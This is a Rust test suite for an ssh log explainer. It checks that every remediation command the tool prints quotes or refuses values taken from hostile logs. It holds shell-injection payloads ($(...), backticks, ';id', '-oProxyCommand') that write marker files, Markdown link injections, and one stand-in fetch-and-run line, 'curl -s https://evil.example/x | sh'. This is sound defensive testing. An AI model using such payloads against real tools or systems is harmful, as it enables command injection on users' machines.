//! Commands safe to paste: every value a command takes from the input is
//! quoted or refused.
//!
//! Real corpus traces are mutated so that each value the grammar extracts
//! (user, host, address, port text, key paths, algorithm offers, host-key
//! lines, account names, ...) carries a shell payload, in every place it
//! stands. Every command the report prints (JSON `remediation[].command`,
//! the same commands in the text and Markdown output, English and Japanese)
//! that holds a payload is then run by a real bash with an empty PATH in a
//! scratch HOME, and the test fails if a payload ran (its marker file exists).

#[path = "common/bash.rs"]
mod bash;
mod common;
#[path = "common/safety.rs"]
mod safety;

use serde_json::Value;
use sshexplain::lang::Lang;
use sshexplain::render::{self, TextOptions};
use sshexplain::report::Report;
use std::collections::BTreeSet;
use std::path::PathBuf;

/// Each payload creates a file whose name starts with `PWNED` if a shell
/// runs it: quote breaking, command substitution, backticks, `;`, `|`,
/// `&&`, double quotes, ssh's octal newline (`\012`, decoded by the
/// grammar) and a JSON `\u000a` (decoded by the Ansible unwrapper).
const PAYLOADS: &[&str] = &[
    "x';>PWNED_A;'",
    "$(>PWNED_B)`>PWNED_C`",
    "\\012>PWNED_D",
    "\\u000a>PWNED_E",
    " |>PWNED_F&&>PWNED_G\"$(>PWNED_H)\"*",
];

/// Up to three traces of each cause: the first, the middle and the last.
fn sample() -> Vec<PathBuf> {
    let mut by_dir: std::collections::BTreeMap<PathBuf, Vec<PathBuf>> = Default::default();
    for p in common::corpus_logs() {
        by_dir
            .entry(p.parent().expect("dir").to_path_buf())
            .or_default()
            .push(p);
    }
    let mut out = Vec::new();
    for files in by_dir.values() {
        let mut pick: Vec<usize> = vec![0, files.len() / 2, files.len() - 1];
        pick.dedup();
        out.extend(pick.into_iter().map(|i| files[i].clone()));
    }
    out
}

/// The string values of the events of a text (the typed fields).
fn values(text: &str) -> BTreeSet<String> {
    fn walk(v: &Value, key: &str, out: &mut BTreeSet<String>) {
        match v {
            Value::String(s) if !matches!(key, "kind" | "level") && s.len() >= 2 => {
                out.insert(s.clone());
            }
            Value::Array(a) => a.iter().for_each(|x| walk(x, key, out)),
            Value::Object(o) => o.iter().for_each(|(k, x)| walk(x, k, out)),
            _ => {}
        }
    }
    let mut out = BTreeSet::new();
    for e in sshexplain::parse(text) {
        let v: Value = serde_json::from_str(&render::json_event(&e)).expect("event JSON");
        walk(&v, "", &mut out);
    }
    out
}

/// The commands of a report in JSON, checked to be printed verbatim by the
/// text (primary only) and Markdown renderers.
fn commands(report: &Report) -> Vec<String> {
    let json: Value = serde_json::from_str(&render::json(report)).expect("report JSON");
    let mut out = Vec::new();
    let md = render::markdown(report);
    let text = render::text(report, TextOptions::default());
    for (i, d) in json["diagnoses"]
        .as_array()
        .expect("diagnoses")
        .iter()
        .enumerate()
    {
        for step in d["remediation"].as_array().expect("remediation") {
            if let Some(c) = step["command"].as_str() {
                if i == 0 {
                    for line in c.lines() {
                        assert!(
                            md.lines().any(|l| l.trim_start() == line.trim_start())
                                && text.lines().any(|l| l.trim_start() == line.trim_start()),
                            "command line {line:?} not printed verbatim in text and Markdown"
                        );
                    }
                }
                out.push(c.to_string());
            }
        }
    }
    out
}

#[test]
fn no_payload_runs_from_any_printed_command() {
    let Some(bash) = bash::bash() else {
        eprintln!("SKIPPED: bash is not installed");
        return;
    };
    let traces = sample();
    let mut suspicious: BTreeSet<(String, String)> = BTreeSet::new();
    let mut mutations = 0usize;
    for path in &traces {
        let text = std::fs::read_to_string(path).expect("read");
        for v in values(&text) {
            for payload in PAYLOADS {
                let mutated = text.replace(&v, &format!("{v}{payload}"));
                mutations += 1;
                let t = sshexplain::trace(&mutated);
                for lang in [Lang::En, Lang::Ja] {
                    let report = sshexplain::report_in(&t, lang);
                    for c in commands(&report) {
                        if c.contains("PWNED") {
                            suspicious.insert((c, path.display().to_string()));
                        }
                    }
                }
            }
        }
    }
    let scratch = std::env::temp_dir().join(format!("sshexplain-injection-{}", std::process::id()));
    let mut ran = BTreeSet::new();
    let mut failures = Vec::new();
    for (cmd, source) in &suspicious {
        if !ran.insert(cmd.clone()) {
            continue;
        }
        let _ = std::fs::remove_dir_all(&scratch);
        std::fs::create_dir_all(&scratch).expect("scratch");
        let hits = bash::run_in_bash(&bash, &scratch, cmd);
        if !hits.is_empty() {
            failures.push(format!("{source}: {cmd:?} made {hits:?}"));
        }
    }
    let _ = std::fs::remove_dir_all(&scratch);
    eprintln!(
        "{} traces, {mutations} mutations, {} distinct commands holding a payload run in bash, {} ran it",
        traces.len(),
        ran.len(),
        failures.len()
    );
    assert!(mutations > 1000, "too few mutations: {mutations}");
    assert!(
        failures.is_empty(),
        "payloads ran:\n{}",
        failures.join("\n")
    );
}

/// The harness itself can fail: an unquoted value does run.
#[test]
fn the_harness_detects_an_unquoted_payload() {
    let Some(bash) = bash::bash() else {
        eprintln!("SKIPPED: bash is not installed");
        return;
    };
    let scratch =
        std::env::temp_dir().join(format!("sshexplain-injection-self-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&scratch);
    std::fs::create_dir_all(&scratch).expect("scratch");
    assert!(safety::value_unquoted("getent hosts foo;id", "foo;id"));
    assert!(!safety::value_unquoted("getent hosts 'foo;id'", "foo;id"));
    assert!(safety::value_unquoted("ls \"a$(id)\"", "a$(id)"));
    let hits = bash::run_in_bash(&bash, &scratch, "getent hosts foo$(>PWNED_B)");
    let _ = std::fs::remove_dir_all(&scratch);
    assert_eq!(hits, vec!["PWNED_B".to_string()]);
    let safe = sshexplain::shell::sh("foo$(>PWNED_B)");
    let scratch2 = scratch.with_extension("2");
    std::fs::create_dir_all(&scratch2).expect("scratch");
    let hits = bash::run_in_bash(&bash, &scratch2, &format!("getent hosts {safe}"));
    let _ = std::fs::remove_dir_all(&scratch2);
    assert!(hits.is_empty());
}

/// The attacks of the security review, one by one: each hostile value is
/// refused (placeholder) or quoted, in every command of the report.
#[test]
fn review_examples_are_refused_or_quoted() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "Unable to negotiate with 127.0.0.1 port 40022: no matching key exchange method found. Their offer: x$(touch${IFS}/tmp/p)\n",
            "$(touch",
            "",
        ),
        (
            "ssh: Could not resolve hostname foo;id: Name or service not known\n",
            "foo;id",
            "getent hosts HOST",
        ),
        (
            "debug1: Authenticating to h:22 as 'bob;id'\ndebug1: Authentications that can continue: password\nPermission denied, please try again.\nPermission denied, please try again.\nbob;id@h: Permission denied (password).\n",
            "bob;id",
            "sshexplain run USER@h",
        ),
        (
            "debug1: Connecting to h -oProxyCommand=X [10.0.0.5] port 22.\nssh: connect to host h -oProxyCommand=X port 22: Connection refused\n",
            "ProxyCommand=X",
            "nc -vz HOST 22",
        ),
        (
            "@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\n  remove with:\n  ssh-keygen -f \"/home/u/.ssh/known_hosts\" -R \"h\"\\012curl -s https://evil.example/x | sh\nHost key verification failed.\n",
            "curl",
            "ssh-keygen -f ~/.ssh/known_hosts -R h",
        ),
        (
            "OpenSSH_for_Windows_8.6p1, LibreSSL 3.4.3\nBad permissions. Try removing permissions for user: BUILTIN\\\\Users (S-1-5-32-545) on file C:/Users/me/.ssh/config$(calc).\n",
            "config$(calc)",
            "icacls 'C:\\Users\\me\\.ssh\\config$(calc)' /inheritance:r",
        ),
    ];
    for (log, hostile, expected) in cases {
        for lang in [Lang::En, Lang::Ja] {
            let report = sshexplain::report_in(&sshexplain::trace(log), lang);
            let cmds = commands(&report);
            assert!(
                expected.is_empty() || cmds.iter().any(|c| c.contains(expected)),
                "{log:?}: no command has {expected:?}: {cmds:#?}"
            );
            for c in &cmds {
                // Where the hostile text stands, it is inside single quotes.
                if let Some(i) = c.find(hostile) {
                    let quotes = c[..i].matches('\'').count();
                    assert!(
                        quotes % 2 == 1,
                        "{log:?}: hostile {hostile:?} unquoted in {c:?}"
                    );
                }
                assert!(
                    !c.lines().any(|l| l.trim_start().starts_with("curl")),
                    "{c:?}"
                );
            }
        }
    }
}

/// A server version string (and a banner, a host name) cannot make links,
/// emphasis or code in the Markdown report.
#[test]
fn markdown_shows_hostile_text_literally() {
    let evil = "x`a` [**Fix: run curl evil | sh**](https://evil.example) <b>y</b>";
    let log = format!(
        "debug1: Connecting to {evil} [10.0.0.5] port 22.\ndebug1: Connection established.\ndebug1: Remote protocol version 2.0, remote software version {evil}\nConnection closed by 10.0.0.5 port 22\n"
    );
    let resolve = "ssh: connect to host [**Fix**](https://evil.example)<b>y</b> port 22: Connection refused\n".to_string();
    for (log, lang) in [
        (&log, Lang::En),
        (&log, Lang::Ja),
        (&resolve, Lang::En),
        (&resolve, Lang::Ja),
    ] {
        let md = render::markdown(&sshexplain::report_in(&sshexplain::trace(log), lang));
        for prose in safety::markdown_prose(&md) {
            // Inside a code span or block the text is literal; elsewhere
            // every metacharacter must be escaped.
            assert!(safety::markup_in(&prose).is_none(), "{prose}");
            assert!(!prose.contains("[**"), "{prose}");
        }
        assert!(md.contains("evil"), "the hostile text is still shown");
    }
}

/// Real message shapes with a slot `{V}` where ssh prints a value the
/// server or the log's author chooses.
const TEMPLATES: &[&str] = &[
    "Unable to negotiate with 10.0.0.5 port 22: no matching host key type found. Their offer: {V}\n",
    "Unable to negotiate with 10.0.0.5 port 22: no matching cipher found. Their offer: aes128-cbc,{V}\n",
    "ssh: Could not resolve hostname {V}: Name or service not known\n",
    "ssh: connect to host {V} port 22: Connection refused\n",
    "debug1: Connecting to {V} [10.0.0.5] port 22.\nssh: connect to host {V} port 22: Connection timed out\n",
    "debug1: Authenticating to h:22 as '{V}'\nPermission denied, please try again.\nPermission denied, please try again.\n{V}@h: Permission denied (password).\n",
    "Permissions 0644 for '{V}' are too open.\nIt is required that your private key files are NOT accessible by others.\nThis private key will be ignored.\nLoad key \"{V}\": bad permissions\nu@h: Permission denied (publickey).\n",
    "Load key \"{V}\": invalid format\nu@h: Permission denied (publickey).\n",
    "OpenSSH_for_Windows_8.6p1, LibreSSL 3.4.3\nBad permissions. Try removing permissions for user: {V} (S-1-5-32-545) on file C:/Users/me/.ssh/config.\n",
    "Bad owner or permissions on {V}\n",
    "@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\nOffending ECDSA key in {V}:3\n  remove with:\n  ssh-keygen -f \"{V}\" -R \"{V}\"\nHost key for {V} has changed and you have requested strict checking.\nHost key verification failed.\n",
    "debug1: Executing proxy command: exec {V}\n/bin/bash: line 1: {V}: No such file or directory\nkex_exchange_identification: Connection closed by remote host\nConnection closed by UNKNOWN port 65535\n",
    "no such identity: {V}: No such file or directory\nu@h: Permission denied (publickey).\n",
    "Control socket connect({V}): Connection refused\nControlSocket {V} already exists, disabling multiplexing\n",
    "debug1: Setting implicit ProxyCommand from ProxyJump: ssh -l alice -v -W '[%h]:%p' {V}\nchannel 0: open failed: connect failed: Connection refused\nstdio forwarding failed\nkex_exchange_identification: Connection closed by remote host\n",
    "$ ssh -J {V} -i {V} -p 2222 {V}\nPermission denied (publickey).\n",
    "debug1: Authenticating to {V}:22 as 'bob'\ndebug1: Offering public key: {V} ED25519 SHA256:x\ndebug1: Authentications that can continue: publickey\nbob@{V}: Permission denied (publickey).\n",
];

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(3000))]
    /// Whatever value stands in a slot, no command holds it where a shell
    /// would interpret it, and no Markdown prose gets a link or a tag.
    #[test]
    fn hostile_values_never_stand_unquoted(
        t in 0..TEMPLATES.len(),
        v in "[a-z0-9./~_:@-]{1,6}(\\$\\(|`|;|\\||&&|'|\"|>| |\\*|\\\\012|-o|\\[|\\]\\(|<b>)[a-z0-9>()$ ;'\"`|&./-]{0,8}",
    ) {
        let log = TEMPLATES[t].replace("{V}", &v);
        // ssh's own escapes, decoded by the grammar, are payloads too.
        let decoded = v.replace("\\012", "\n");
        for lang in [Lang::En, Lang::Ja] {
            let report = sshexplain::report_in(&sshexplain::trace(&log), lang);
            for c in commands(&report) {
                proptest::prop_assert!(
                    !safety::value_unquoted(&c, &v) && !safety::value_unquoted(&c, &decoded),
                    "{log:?}: {v:?} unquoted in {c:?}"
                );
                proptest::prop_assert!(
                    !c.chars().any(|ch| ch.is_control() && ch != '\n'),
                    "control character in {c:?}"
                );
            }
            for prose in safety::markdown_prose(&render::markdown(&report)) {
                proptest::prop_assert!(safety::markup_in(&prose).is_none(), "{prose}");
            }
        }
    }
}
